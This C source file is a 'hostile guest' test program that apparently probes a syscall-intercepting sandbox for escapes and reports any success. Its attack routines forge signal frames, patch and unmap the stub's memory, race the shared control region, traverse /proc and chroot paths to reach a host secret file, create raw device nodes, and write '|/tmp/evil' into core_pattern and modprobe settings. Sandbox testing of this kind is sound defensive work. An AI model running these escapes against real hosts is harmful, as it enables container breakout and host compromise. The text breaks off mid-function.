/*
 * A guest that attacks what it runs in:
 *
 *   hostile-guest SECRET ATTACK...
 *
 * SECRET is the path of a host file that no sandbox is given. Each attack runs in a process of its own; a line says how that
 * ended, and a line "FOUND ..." what it has got that it must not have. Which host calls are made meanwhile is for others to see
 * (tools/end-to-end/long-hostile-guest).
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

/* engine-sentry/src/main/c/stub/shared.h */
#define STUB_TEXT 0x7ff000000000UL
#define STUB_TEXT_SIZE 0x10000UL
#define CONTROL 0x7ff100000000UL
#define SLOT_SIZE 0x4000UL
#define GUEST_LIMIT 0x7fe000000000UL

enum { MAX_SITES = 64, PATIENCE_SECONDS = 3, MERCY_SECONDS = 120, FRAME_TAKEN = 77 };

static const char *secret;
static sigjmp_buf back;
static unsigned long sites[MAX_SITES];
static int site_count;
static unsigned long return_site; /* mov $15, %eax; syscall */

static void found(const char *what) {
  char line[200];
  int n = snprintf(line, sizeof line, "FOUND %s\n", what);
  if (write(1, line, (size_t)n) != n)
    _exit(3);
}

static void caught(int signal) {
  siglongjmp(back, signal);
}

static void catch_all(void) {
  static char stack[65536];
  stack_t alternate = {.ss_sp = stack, .ss_size = sizeof stack};
  struct sigaction action = {.sa_handler = caught, .sa_flags = SA_ONSTACK | SA_NODEFER};
  sigaltstack(&alternate, NULL);
  for (int i = 1; i < 32; i++)
    if (i != SIGKILL && i != SIGSTOP && i != SIGTERM && i != SIGCHLD)
      sigaction(i, &action, NULL);
}

/* Whether an address can be read: some are not there on every platform. */
static int readable(unsigned long address) {
  if (sigsetjmp(back, 1))
    return 0;
  (void)*(volatile char *)address;
  return 1;
}

static void find_sites(void) {
  catch_all();
  for (unsigned long page = STUB_TEXT; page < STUB_TEXT + STUB_TEXT_SIZE; page += 4096) {
    if (!readable(page))
      continue;
    const unsigned char *code = (const unsigned char *)page;
    for (int i = 0; i < 4094 && site_count < MAX_SITES; i++)
      if (code[i] == 0x0f && code[i + 1] == 0x05) {
        sites[site_count++] = page + (unsigned long)i;
        if (i >= 5 && code[i - 5] == 0xb8 && code[i - 4] == 15 && code[i - 3] == 0)
          return_site = page + (unsigned long)i;
      }
  }
}

/* Goes to an instruction with these registers; what comes after it there, nobody knows. */
static void jump(unsigned long to, long nr, unsigned long a, unsigned long b, unsigned long c, unsigned long d,
                 unsigned long e, unsigned long f) {
  static char room[65536] __attribute__((aligned(16384)));
  struct itimerval soon = {.it_value = {0, 200000}};
  int how = sigsetjmp(back, 1);
  if (how)
    return;
  setitimer(ITIMER_REAL, &soon, NULL);
  register unsigned long r10 __asm__("r10") = d;
  register unsigned long r8 __asm__("r8") = e;
  register unsigned long r9 __asm__("r9") = f;
  register unsigned long r11 __asm__("r11") = to;
  register char *stack __asm__("r12") = room + sizeof room / 2;
  __asm__ volatile("movq %%r12, %%rsp\n\txorl %%ebp, %%ebp\n\tjmp *%%r11"
                   :
                   : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), "r"(r11), "r"(stack)
                   : "memory");
  __builtin_unreachable();
}

static long wanted[][7] = {
    {SYS_open, (long)"/etc/passwd"},
    {SYS_openat, AT_FDCWD, (long)"/", O_RDONLY},
    {SYS_openat2, AT_FDCWD, (long)"/"},
    {SYS_execve, (long)"/bin/sh"},
    {SYS_execveat, 5, (long)"", 0, 0, AT_EMPTY_PATH},
    {SYS_fork},
    {SYS_vfork},
    {SYS_clone, SIGCHLD},
    {SYS_clone, CLONE_NEWUSER | SIGCHLD},
    {SYS_clone, 0x8011 | (1L << 33)},
    {SYS_clone3, (long)"", 88},
    {SYS_ptrace, PTRACE_ATTACH, 1},
    {SYS_kill, 0x7fffffff, 9},

    {SYS_tgkill, 0x7fffffff, 1, 9},
    {SYS_socket, AF_INET, SOCK_STREAM},
    {SYS_socketpair, AF_UNIX, SOCK_STREAM, 0, (long)CONTROL},
    {SYS_memfd_create, (long)"x"},
    {SYS_mmap, 0x10000000, 4096, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1},
    {SYS_mmap, 0x10000000, 4096, 7, MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED, -1},
    {SYS_mmap, 0x10000000, 4096, 7, MAP_SHARED | MAP_FIXED | MAP_LOCKED, 3},
    {SYS_mremap, STUB_TEXT, 4096, 8192, 3, 0x10000000},
    {SYS_madvise, STUB_TEXT, 4096, 4},
    {SYS_read, 3, 0x10000000, 4096},
    {SYS_write, 3, STUB_TEXT, 4096},
    {SYS_pwrite64, 3, STUB_TEXT, 4096, 0},
    {SYS_ftruncate, 3, 1L << 50},
    {SYS_fallocate, 3, 3, 0, 4096},
    {SYS_sendmsg, 0, STUB_TEXT},
    {SYS_close, 3},
    {SYS_dup, 3},
    {SYS_fcntl, 3, F_SETFL, O_ASYNC},
    {SYS_ioctl, 0, 0x5412, STUB_TEXT},
    {SYS_prctl, PR_SET_DUMPABLE, 1},
    {SYS_prctl, PR_SET_PTRACER, -1},
    {SYS_seccomp, 1, 0, STUB_TEXT},
    {SYS_bpf, 0, STUB_TEXT, 64},
    {SYS_io_uring_setup, 8, STUB_TEXT},
    {SYS_userfaultfd, 0},
    {SYS_process_vm_readv, 1, STUB_TEXT, 1, STUB_TEXT, 1},
    {SYS_unshare, CLONE_NEWUSER},
    {SYS_setns, 3, 0},
    {SYS_mount, (long)"x", (long)"/", (long)"tmpfs"},
    {SYS_chroot, (long)"/"},
    {SYS_pidfd_open, 1},
    {SYS_perf_event_open, STUB_TEXT},
    {SYS_personality, ADDR_NO_RANDOMIZE},
    {SYS_setuid, 0},
    {SYS_futex, CONTROL, FUTEX_REQUEUE, 1, 1, CONTROL + 4},
    {SYS_futex, CONTROL, FUTEX_LOCK_PI},
    {SYS_sched_setaffinity, 1, 8, CONTROL},
    {SYS_set_robust_list, CONTROL, 24},
    {SYS_rt_sigaction, SIGSYS, 0, 0, 8},
    {SYS_rt_sigprocmask, SIG_BLOCK, CONTROL, 0, 8},
    {SYS_rt_sigqueueinfo, 0x7fffffff, 9, CONTROL},
    {SYS_timer_create, 0, 0, CONTROL},
    {SYS_arch_prctl, 0x1001, 0x8000000000000000UL},
    {SYS_arch_prctl, 0x2001, STUB_TEXT},
    {SYS_getpid | 0x40000000},
    {-1},
};

static void jump_with(int number) {
  long *w = wanted[number];
  /* Each place with some calls, and each call at some places: in some of them it stays, and spins. */
  for (int i = number % 9; i < site_count; i += 9)
    jump(sites[i], w[0], (unsigned long)w[1], (unsigned long)w[2], (unsigned long)w[3], (unsigned long)w[4],
         (unsigned long)w[5], (unsigned long)w[6]);
}

/* What the stub itself may do, with other arguments than it would give. */
static void host_call(long nr, unsigned long a, unsigned long b, unsigned long c, unsigned long d, unsigned long e,
                      unsigned long f) {
  if (site_count)
    jump(return_site, nr, a, b, c, d, e, f);
}

static void unmap_stub(void) {
  host_call(SYS_munmap, STUB_TEXT, STUB_TEXT_SIZE, 0, 0, 0, 0);
  getppid();
}
static void unmap_control(void) {
  host_call(SYS_munmap, CONTROL, SLOT_SIZE * 4096, 0, 0, 0, 0);
  getppid();
}
static void unmap_everything(void) {
  host_call(SYS_munmap, 0, 0x7ffffffff000UL, 0, 0, 0, 0);
}
static void protect_control(void) {
  host_call(SYS_mprotect, CONTROL, SLOT_SIZE * 4096, PROT_READ, 0, 0, 0);
  getppid();
}

/* Code of ours where the filter trusts the address: it may call, and gets no more than the stub does. */
static void patch_stub(void) {
  static const unsigned char code[] = {0x0f, 0x05, 0xf4}; /* syscall; hlt */
  host_call(SYS_mprotect, STUB_TEXT, STUB_TEXT_SIZE, 7, 0, 0, 0);
  if (sigsetjmp(back, 1) == 0)
    memcpy((void *)(STUB_TEXT + 0x8000), code, sizeof code);
  jump(STUB_TEXT + 0x8000, SYS_openat, (unsigned long)AT_FDCWD, (unsigned long)secret, 0, 0, 0, 0);
}
static void remap_stub(void) {
  static const unsigned char code[] = {0x0f, 0x05, 0xf4};
  host_call(SYS_mmap, STUB_TEXT + 0x8000, 4096, 7, MAP_SHARED | MAP_FIXED, 3, 0x1000);
  if (sigsetjmp(back, 1) == 0)
    memcpy((void *)(STUB_TEXT + 0x8000), code, sizeof code);
  for (int i = 0; wanted[i][0] != -1; i++)
    jump(STUB_TEXT + 0x8000, wanted[i][0], (unsigned long)wanted[i][1], (unsigned long)wanted[i][2],
         (unsigned long)wanted[i][3], (unsigned long)wanted[i][4], (unsigned long)wanted[i][5], 0);
}
/* All of the sandbox's memory, and layers that are read-only, written to. */
static void map_all_memory(void) {
  for (unsigned fd = 0; fd < 12; fd++) {
    unsigned long place = 0x100000000UL + ((unsigned long)fd << 32);
    host_call(SYS_mmap, place, 1UL << 30, 3, MAP_SHARED | MAP_FIXED, fd, 0);
    if (fd != 3 && sigsetjmp(back, 1) == 0) {
      *(volatile char *)place = 1;
      found("a descriptor beside the guest's memory that can be written");
    }
  }
}
static void control_again(void) {
  for (unsigned fd = 0; fd < 64; fd++)
    host_call(SYS_mmap, CONTROL, SLOT_SIZE * 4096, 3, MAP_SHARED | MAP_FIXED, fd, 0);
}
static void threads_of_the_host(void) {
  for (int i = 0; i < 200; i++)
    host_call(SYS_clone, 0x50f00, CONTROL + SLOT_SIZE * (unsigned long)(3000 + i) - 64, 0, 0, 0, 0);
}
static void processes_of_the_host(void) {
  for (int i = 0; i < 200; i++)
    host_call(SYS_clone, 0x8011, CONTROL + SLOT_SIZE * (unsigned long)(3000 + i) - 64, 0, 0, 0, 0);
}

/* A signal frame of our own making, given to the host's kernel. */
struct frame {
  ucontext_t context;
  char rest[1024];
};
/* The instruction that gives them: the stub's own, or one of ours, whose frames the sentry takes. */
static unsigned long return_by;
extern const char own_return[];
__asm__(".text\nown_return:\n\tsyscall\n\thlt\n");
static void forge(void (*change)(struct frame *), unsigned long rip) {
  static struct frame f __attribute__((aligned(64)));
  static char stack[65536] __attribute__((aligned(64)));
  if (!return_by)
    return;
  memset(&f, 0, sizeof f);
  f.context.uc_mcontext.gregs[REG_RIP] = (long)rip;
  f.context.uc_mcontext.gregs[REG_RSP] = (long)(stack + sizeof stack / 2);
  f.context.uc_mcontext.gregs[REG_EFL] = 0x202;
  f.context.uc_mcontext.gregs[REG_CSGSFS] = 0x002b000000000033L;
  f.context.uc_flags = 6;
  change(&f);
  if (sigsetjmp(back, 1) == 0) {
    register unsigned long to __asm__("r11") = return_by;
    __asm__ volatile("movq %0, %%rsp\n\tmovl $15, %%eax\n\tjmp *%1" ::"D"(&f), "r"(to) : "memory");
    __builtin_unreachable();
  }
}
static void after_deaf(void) {
  for (;;)
    ;
}
/* Says that a frame was taken. */
static void call_then_end(void) {
  syscall(SYS_getppid);
  _exit(FRAME_TAKEN);
}
static void make_deaf(struct frame *f) {
  memset(&f->context.uc_sigmask, 0xff, 128);
}
static void make_32(struct frame *f) {
  f->context.uc_mcontext.gregs[REG_CSGSFS] = 0x002b000000000023L;
}
static void make_bad_fpu(struct frame *f) {
  f->context.uc_mcontext.fpregs = (fpregset_t)(CONTROL + 1);
}
static void make_stack(struct frame *f) {
  f->context.uc_stack.ss_sp = (void *)0x10000;
  f->context.uc_stack.ss_size = 1UL << 40;
}
static void make_ring0(struct frame *f) {
  f->context.uc_mcontext.gregs[REG_CSGSFS] = 0x0018000000000010L;
}
static void make_flags(struct frame *f) {
  f->context.uc_mcontext.gregs[REG_EFL] = (long)0xffffffffffffffffUL;
}
static void nothing(struct frame *f) {
  (void)f;
}
static void frame_plain(void) {
  forge(nothing, (unsigned long)call_then_end);
}
static void frame_deaf(void) {
  forge(make_deaf, (unsigned long)after_deaf);
}
static void frame_deaf_call(void) {
  forge(make_deaf, (unsigned long)call_then_end);
}
static void frame_bad_fpu(void) {
  forge(make_bad_fpu, (unsigned long)call_then_end);
}
static void frame_stack(void) {
  forge(make_stack, (unsigned long)call_then_end);
}
static void frame_ring0(void) {
  forge(make_ring0, (unsigned long)call_then_end);
}
static void frame_flags(void) {
  forge(make_flags, (unsigned long)call_then_end);
}
static void frame_noncanonical(void) {
  forge(nothing, 0x8000000000000000UL);
}
static void frame_into_stub(void) {
  for (int i = 0; i < site_count; i++)
    forge(nothing, sites[i]);
}
/* In 32-bit mode: open, clone and sysenter, from low memory. */
static void frame_32(void) {
  static const unsigned char code[] = {0xb8, 5, 0, 0, 0, 0xcd, 0x80, 0xb8, 2, 0, 0, 0, 0xcd, 0x80, 0xb8, 5, 0, 0, 0, 0x0f, 0x34, 0xf4};
  void *low = mmap((void *)0x20000, 4096, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
  if (low != MAP_FAILED) {
    memcpy(low, code, sizeof code);
    forge(make_32, 0x20000);
  }
}
static void forge_our_own(void) {
  ucontext_t u;
  memset(&u, 0xff, sizeof u);
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("movq %0, %%rsp\n\tmovl $15, %%eax\n\tsyscall" ::"r"(&u) : "memory");
}

/* Other ways into a kernel. */
static void entries(void) {
  long result;
  for (int nr = 1; nr < 450; nr += 3) {
    if (nr == 1 || nr == 252)
      continue;
    if (sigsetjmp(back, 1) == 0)
      __asm__ volatile("int $0x80" : "=a"(result) : "a"(nr), "b"(0), "c"(0), "d"(0) : "memory", "r8", "r9", "r10", "r11");
  }
  for (long nr = 0; nr < 560; nr++)
    if (nr != SYS_exit && nr != SYS_exit_group && sigsetjmp(back, 1) == 0 && syscall(0x40000000 | nr, 0, 0, 0, 0, 0, 0) >= 0)
      found("an x32 call");
  for (unsigned long at = 0xffffffffff600000UL; at < 0xffffffffff601000UL; at += 0x400)
    if (sigsetjmp(back, 1) == 0) {
      struct timeval when[2];
      ((long (*)(void *, void *))at)(when, 0);
    }
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("sysenter");
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("pushq $0x23\n\tpushq $0x20000\n\tlretq");
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("int3");
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("int $0x81");
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("outb %%al, $0x80" ::"a"(0));
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("vmcall");
}
static void segments(void) {
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("wrgsbase %0" ::"r"(0x4141000UL));
  for (int i = 0; i < 100; i++)
    getppid();
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("wrgsbase %0" ::"r"(CONTROL + SLOT_SIZE * 5));
  for (int i = 0; i < 100; i++)
    getppid();
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("movw %w0, %%gs" ::"r"(0x2b));
  for (int i = 0; i < 100; i++)
    getppid();
}

/* Scribbles the region through which stubs and the sentry talk: this process's part of it, or all. */
static uint64_t random_state = 88172645463325252ULL;
static uint64_t next_random(void) {
  random_state ^= random_state << 13;
  random_state ^= random_state >> 7;
  random_state ^= random_state << 17;
  return random_state;
}
static void *scribble(void *from) {
  unsigned long first = (unsigned long)from, last = first == 0 ? 64 : first + 1;
  struct timespec begun, now;
  clock_gettime(CLOCK_MONOTONIC, &begun);
  do {
    for (int i = 0; i < 5000; i++) {
      unsigned long slot = first + next_random() % (last - first);
      unsigned long at = CONTROL + slot * SLOT_SIZE + next_random() % (next_random() % 2 ? 256 : 4096);
      uint32_t value = next_random() % 3 == 0 ? (uint32_t)next_random() : (uint32_t)(next_random() % 16);
      *(volatile uint32_t *)(at & ~3UL) = value;
    }
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while (now.tv_sec - begun.tv_sec < 1);
  return NULL;
}
static unsigned long own_slot(void) {
  unsigned long gs = 0;
  if (sigsetjmp(back, 1) == 0)
    __asm__ volatile("rdgsbase %0" : "=r"(gs));
  return gs > CONTROL && gs < CONTROL + SLOT_SIZE * 4096 ? (gs - CONTROL) / SLOT_SIZE : 2;
}
static void race(unsigned long from) {
  pthread_t other;
  if (!readable(CONTROL))
    return;
  pthread_create(&other, NULL, scribble, (void *)from);
  struct timespec begun, now;
  clock_gettime(CLOCK_MONOTONIC, &begun);
  do {
    if (sigsetjmp(back, 1) == 0) {
      getppid();
      void *p = mmap(NULL, 65536, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
      if (p != MAP_FAILED) {
        *(volatile char *)p = 1;
        munmap(p, 65536);
      }
    }
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while (now.tv_sec - begun.tv_sec < 1);
  _exit(0);
}
static void race_own_slot(void) {
  race(own_slot());
}
static void race_all_slots(void) {
  race(0);
}

static void mappings(void) {
  static const unsigned long lengths[] = {1, 4096, 1UL << 30, 1UL << 46, 1UL << 47, 1UL << 63, ~0UL, ~0xfffUL};
  static const unsigned long places[] = {0,       4096,    0x10000, STUB_TEXT - 4096, STUB_TEXT, CONTROL, GUEST_LIMIT - 4096, GUEST_LIMIT,
                                         1UL << 47, 1UL << 62, 0xffffffffff600000UL, ~0xfffUL};
  for (unsigned i = 0; i < sizeof places / sizeof places[0]; i++)
    for (unsigned j = 0; j < sizeof lengths / sizeof lengths[0]; j++) {
      unsigned long at = places[i], size = lengths[j];
      /* Not what this program itself lies in. */
      if (at + size > 0x10000 && at + size < GUEST_LIMIT && at < STUB_TEXT - 4096 && size > 1UL << 30)
        continue;
      for (int flags = 0; flags < 2; flags++) {
        void *p = mmap((void *)at, size, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | (flags ? MAP_FIXED_NOREPLACE : MAP_GROWSDOWN), -1, 0);
        if (p != MAP_FAILED) {
          if ((unsigned long)p >= GUEST_LIMIT || (unsigned long)p + size > GUEST_LIMIT)
            found("a mapping beyond what guests may have");
          munmap(p, size);
        }
      }
      if (at >= GUEST_LIMIT) {
        if (mmap((void *)at, size, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != MAP_FAILED)
          found("a mapping over the stub");
        if (mprotect((void *)at, size, 7) == 0 && size)
          found("the stub's protection");
        mremap((void *)at, 4096, size, MREMAP_MAYMOVE);
        madvise((void *)at, size, MADV_DONTNEED);
        msync((void *)at, size, MS_SYNC);
        mlock((void *)at, size);
        munmap((void *)at, size);
        shmat(shmget(IPC_PRIVATE, 4096, 0600), (void *)at, SHM_REMAP);
      }
    }
  char *p = mmap(NULL, 1 << 20, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  for (int i = 0; i < 2000; i++)
    mremap(p + (i % 200) * 4096, 4096 * (1 + (size_t)i % 7), 4096 * (1 + (size_t)i % 11), MREMAP_MAYMOVE | MREMAP_FIXED, p + (i % 199) * 4096);
  brk((void *)~0UL);
  brk((void *)STUB_TEXT);
  getppid();
}

/* What pointers lead to changes while it is read. */
static struct {
  struct iovec io[64];
  struct msghdr message;
  char path[4096];
  char *argv[64];
} *shared;
static volatile int racing;
static void *change(void *unused) {
  (void)unused;
  while (racing) {
    uint64_t *words = (uint64_t *)shared;
    uint64_t r = next_random();
    words[r % (sizeof *shared / 8)] = r % 5 ? (uint64_t)shared + r % sizeof *shared : r;
    if (r % 64 == 0)
      mprotect((char *)shared + (r >> 20) % 2 * 4096, 4096, (int)(r >> 30) % 4);
    if (r % 256 == 0)
      mmap((char *)shared + 4096, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
  }
  return NULL;
}
static void pointers(void) {
  pthread_t other;
  int pair[2], null = open("/dev/null", O_RDWR);
  shared = mmap(NULL, 65536, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair) != 0)
    return;
  racing = 1;
  pthread_create(&other, NULL, change, NULL);
  for (int i = 0; i < 3000; i++)
    if (sigsetjmp(back, 1) == 0) {
      writev(null, shared->io, i % 70);
      readv(pair[0], shared->io, i % 70);
      sendmsg(pair[0], &shared->message, MSG_DONTWAIT);
      recvmsg(pair[1], &shared->message, MSG_DONTWAIT);
      syscall(SYS_openat, AT_FDCWD, shared->path, O_RDONLY);
      syscall(SYS_readlink, shared->path, shared->path, 4096);
      syscall(SYS_futex, shared->io, FUTEX_WAIT, 0, shared->message, 0, 0);
      syscall(SYS_epoll_ctl, null, 1, pair[0], shared);
      syscall(SYS_rt_sigprocmask, 0, 0, shared, 8);
      syscall(SYS_process_vm_readv, getpid(), shared->io, i % 70, shared->io, i % 70, 0);
      syscall(SYS_ioctl, pair[0], 0x541b, shared);
      if (i % 100 == 0 && vfork() == 0) {
        syscall(SYS_execve, shared->path, shared->argv, shared->argv);
        _exit(0);
      }
    }
  racing = 0;
}

static void descriptors(void) {
  int pair[2], fds[253];
  char control[CMSG_SPACE(sizeof fds)];
  for (int round = 0; round < 60; round++) {
    if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair) != 0)
      continue;
    unsigned count = round % 4 == 3 ? 253 : (unsigned)round % 8 + 1;
    for (unsigned i = 0; i < count; i++)
      fds[i] = round % 3 == 0 ? pair[i % 2] : round % 3 == 1 ? (int)i : (int)next_random();
    struct iovec io = {"x", 1};
    struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = control, .msg_controllen = CMSG_SPACE(4 * count)};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = round % 5 == 4 ? SCM_CREDENTIALS : SCM_RIGHTS;
    c->cmsg_len = round % 7 == 6 ? (size_t)next_random() : CMSG_LEN(4 * count);
    memcpy(CMSG_DATA(c), fds, 4 * count);
    for (int i = 0; i < 20; i++)
      sendmsg(pair[0], &m, MSG_DONTWAIT);
    if (round % 2) {
      m.msg_controllen = (size_t)round * 3;
      recvmsg(pair[1], &m, MSG_DONTWAIT);
      close(pair[0]);
      close(pair[1]);
    }
  }
}

static void try_file(const char *path) {
  char text[64];
  int fd = open(path, O_RDONLY);
  if (fd >= 0 && read(fd, text, sizeof text) > 0 && memmem(text, sizeof text, "host secret", 11))
    found("the host's secret");
  if (fd >= 0)
    close(fd);
}
static void files(void) {
  static const char *const roots[] = {"",          "/proc/1/root",      "/proc/self/root",   "/proc/self/cwd/../../../../..", "/proc/self/root/../..",
                                      "/..",       "/proc/thread-self/root", "/dev/fd/3/..", "/proc/self/fd/0/../../..",      "/usr/../../.."};
  char path[4200];
  for (unsigned i = 0; i < sizeof roots / sizeof roots[0]; i++) {
    snprintf(path, sizeof path, "%s%s", roots[i], secret);
    try_file(path);
  }
  for (int i = 0; i < 30; i++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d%s", i, secret);
    try_file(path);
    snprintf(path, sizeof path, "/proc/%d/root%s", i, secret);
    try_file(path);
    snprintf(path, sizeof path, "/proc/%d/mem", i);
    int fd = open(path, O_RDWR);
    if (fd >= 0) {
      char byte = 0;
      if (pwrite(fd, &byte, 1, (off_t)STUB_TEXT) == 1 || pwrite(fd, &byte, 1, (off_t)CONTROL) == 1)
        found("the stub's memory by way of /proc");
      close(fd);
    }
  }
  int chase = chroot("/tmp") == 0 ? open("/", O_PATH) : -1;
  for (int i = 0; i < 20; i++)
    if (chdir("..") != 0)
      break;
  snprintf(path, sizeof path, ".%s", secret);
  try_file(path);
  close(chase);
  for (unsigned type = 0; type < 256; type += 5) {
    struct {
      unsigned bytes;
      int type;
      unsigned char handle[64];
    } h = {16, (int)type, {0}};
    int fd = (int)syscall(SYS_open_by_handle_at, AT_FDCWD, &h, O_RDONLY);
    if (fd >= 0)
      found("a file by its handle");
  }
  static const char *const devices[] = {"/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/proc/kmsg"};
  for (unsigned i = 0; i < sizeof devices / sizeof devices[0]; i++)
    if (open(devices[i], O_RDWR) >= 0)
      found(devices[i]);
  static const char *const settings[] = {"/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/proc/sys/kernel/modprobe"};
  for (unsigned i = 0; i < sizeof settings / sizeof settings[0]; i++) {
    int fd = open(settings[i], O_WRONLY);
    if (fd >= 0) {
      if (write(fd, "|/tmp/evil", 10) < 0)
        errno = 0;
      close(fd);
    }
  }
  mknod("/tmp/disk", S_IFBLK | 0600, 8 << 8);
  if (open("/tmp/disk", O_RDONLY) >= 0)
    found("the host's disk");
  mknod("/tmp/memory", S_IFCHR | 0600, 1 << 8 | 1);
  if (open("/tmp/memory", O_RDONLY) >= 0)
    found("the host's memory");
}

static void flags(void) {
  for (int bit = 0; bit < 34; bit++)
    for (int also = 0; also < 2; also++) {
      unsigned long wish = 1UL << bit | (also ? CLONE_VM | CLONE_VFORK : 0) | SIGCHLD;
      if (wish & (CLONE_THREAD | CLONE_SETTLS | (also ? 0 : CLONE_VM) | CLONE_PARENT_SETTID | CLONE_CHILD_SETTID | CLONE_PARENT | CLONE_PIDFD))
        continue;
      long pid = syscall(SYS_clone, wish, 0, 0, 0, 0);
      if (pid == 0)
        syscall(SYS_exit, 0);
      if (pid > 0)
        waitpid((pid_t)pid, NULL, __WALL);
    }
  unsigned long arguments[16];
  for (int i = 0; i < 200; i++) {
    for (int j = 0; j < 16; j++)
      arguments[j] = next_random() % 3 ? 0 : next_random();
    arguments[0] &= ~(unsigned long)(CLONE_VM | CLONE_THREAD | CLONE_VFORK);
    long pid = syscall(SYS_clone3, arguments, (size_t)(i % 17) * 8);
    if (pid == 0)
      syscall(SYS_exit, 0);
    if (pid > 0)
      waitpid((pid_t)pid, NULL, __WALL);
  }
  for (int option = 0; option < 80; option++)
    if (option != PR_SET_SECCOMP && option != PR_SET_PDEATHSIG)
      for (int i = 0; i < 4; i++)
        if (sigsetjmp(back, 1) == 0)
          prctl(option, i == 3 ? -1UL : (unsigned long)i, i == 2 ? STUB_TEXT : 0, 0, 0);
  prctl(59 /* PR_SET_SYSCALL_USER_DISPATCH */, 1, STUB_TEXT, STUB_TEXT_SIZE, 0);
  for (int code = 0x1000; code < 0x1030; code++)
    if (code != 0x1002 && sigsetjmp(back, 1) == 0)
      syscall(SYS_arch_prctl, code, 0x8000000000000000UL);
  for (int code = 0x2000; code < 0x2010; code++)
    if (sigsetjmp(back, 1) == 0)
      syscall(SYS_arch_prctl, code, STUB_TEXT);
  for (int bit = 0; bit < 32; bit++)
    personality(1UL << bit);
  unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID);
}

static const struct {
  const char *name;
  void (*run)(void);
} attacks[] = {
    {"unmap-stub", unmap_stub},
    {"unmap-control", unmap_control},
    {"unmap-everything", unmap_everything},
    {"protect-control", protect_control},
    {"patch-stub", patch_stub},
    {"remap-stub", remap_stub},
    {"map-all-memory", map_all_memory},
    {"control-again", control_again},
    {"host-threads", threads_of_the_host},
    {"host-processes", processes_of_the_host},
    {"frame-plain", frame_plain},
    {"frame-deaf", frame_deaf},
    {"frame-deaf-call", frame_deaf_call},
    {"frame-bad-fpu", frame_bad_fpu},
    {"frame-stack", frame_stack},
    {"frame-ring0", frame_ring0},
    {"frame-flags", frame_flags},
    {"frame-noncanonical", frame_noncanonical},
    {"frame-into-stub", frame_into_stub},
    {"frame-32", frame_32},
    {"own-frame-plain", frame_plain},
    {"own-frame-deaf", frame_deaf},
    {"own-frame-deaf-call", frame_deaf_call},
    {"own-frame-bad-fpu", frame_bad_fpu},
    {"own-frame-stack", frame_stack},
    {"own-frame-ring0", frame_ring0},
    {"own-frame-flags", frame_flags},
    {"own-frame-noncanonical", frame_noncanonical},
    {"own-frame-into-stub", frame_into_stub},
    {"own-frame-32", frame_32},
    {"own-frame-garbage", forge_our_own},
    {"entries", entries},
    {"segments", segments},
    {"mappings", mappings},
    {"pointers", pointers},
    {"descriptors", descriptors},
    {"files", files},
    {"flags", flags},
    {"race-own-slot", race_own_slot},
    {"race-all-slots", race_all_slots},
};
enum { ATTACKS = sizeof attacks / sizeof attacks[0], CALLS = sizeof wanted / sizeof wanted[0] - 1, MOST = ATTACKS + CALLS };

static pid_t begun[MOST];
static char names[MOST][32];
static int count;

static void begin(const char *name, void (*run)(void), int number) {
  pid_t pid = fork();
  if (pid == 0) {
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(null, 2);
    catch_all();
    return_by = strncmp(name, "own-", 4) == 0 ? (unsigned long)own_return : return_site;
    random_state += (uint64_t)getpid() * 2654435761u;
    if (run)
      run();
    else
      jump_with(number);
    _exit(0);
  }
  snprintf(names[count], sizeof names[0], "%s", name);
  begun[count++] = pid;
}

static void await_all(void) {
  struct timespec from, now;
  int left = count, killed = 0;
  clock_gettime(CLOCK_MONOTONIC, &from);
  do {
    int status;
    pid_t pid = waitpid(-1, &status, WNOHANG);
    for (int i = 0; pid > 0 && i < count; i++)
      if (begun[i] == pid) {
        printf("%s: %s %d\n", names[i], WIFSIGNALED(status) ? "signal" : "code",
               WIFSIGNALED(status) ? WTERMSIG(status) : WEXITSTATUS(status));
        begun[i] = 0;
        left--;
      }
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (!killed && now.tv_sec - from.tv_sec >= PATIENCE_SECONDS)
      for (killed = 1; killed <= count; killed++)
